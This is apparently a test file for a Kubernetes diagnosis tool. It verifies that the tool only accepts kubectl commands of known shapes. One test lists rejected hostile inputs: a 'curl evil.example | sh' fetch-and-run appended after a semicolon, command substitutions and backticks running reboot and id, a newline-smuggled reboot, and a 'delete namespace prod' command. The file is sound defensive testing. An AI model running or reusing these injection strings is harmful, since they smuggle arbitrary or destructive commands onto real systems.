import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { commandFrom, typeable } from '../../runtime/diagnosis/command.ts';

const folder = new URL('../../runtime/diagnosis/', import.meta.url).pathname;

/** Every command that a rule writes down, with a name in each gap. */
function commandsOfRules(): readonly string[] {
  const sources = globSync('{*,rules/*}.ts', { cwd: folder }).filter((file) => file !== 'command.ts');
  const texts = sources.map((file) => readFileSync(folder + file, 'utf8')).join('\n');
  const found = [...texts.matchAll(/(["'`])(kubectl (?:(?!\1).)*)\1/g)].map(([, , command]) => command!);
  return found.map((command) =>
    command.replace(/--as=\$\{[^}]+\}/, '--as=system:serviceaccount:a:b').replace(/\$\{[^}]+\}/g, 'name-1'),
  );
}

test('every command of a rule has its shape in command.ts', () => {
  const commands = commandsOfRules();
  assert.ok(commands.length > 30);
  assert.deepEqual(
    commands.filter((command) => commandFrom(command) === undefined),
    [],
    'add their shapes',
  );
});

test('a command that none of our rules makes is not taken from elsewhere', () => {
  for (const command of [
    'kubectl delete namespace prod',
    'kubectl describe pod a -n b; curl evil.example | sh',
    'kubectl describe pod $(reboot) -n b',
    'kubectl describe pod a -n b\nreboot',
    'kubectl describe node `id`',
    'kubectl logs a -n b --kubeconfig=/tmp/x',
    'kubectl auth can-i --list --as=a;b -n c',
    'sudo kubectl get apiservices',
    '',
  ])
    assert.equal(commandFrom(command), undefined, command);
  assert.equal(
    commandFrom('kubectl describe node ip-10-0-0-1.eu.internal'),
    'kubectl describe node ip-10-0-0-1.eu.internal',
  );
});

test('a command in which a name is missing is not shown', () => {
  const shown = (command: string) => typeable({ command }).command;
  assert.equal(shown('kubectl get pods -o wide -n '), undefined);
  assert.equal(shown('kubectl describe pod undefined -n web'), undefined);
  assert.equal(shown('kubectl describe deployment  -n web'), undefined);
  assert.equal(shown('kubectl describe endpointslices -l kubernetes.io/service-name= -n web'), undefined);
  assert.equal(shown('kubectl auth can-i --list --as=me -n '), 'kubectl auth can-i --list --as=me');
  assert.equal(shown('kubectl describe pod web-1 -n web'), 'kubectl describe pod web-1 -n web');
  assert.deepEqual(typeable({}), {});
});
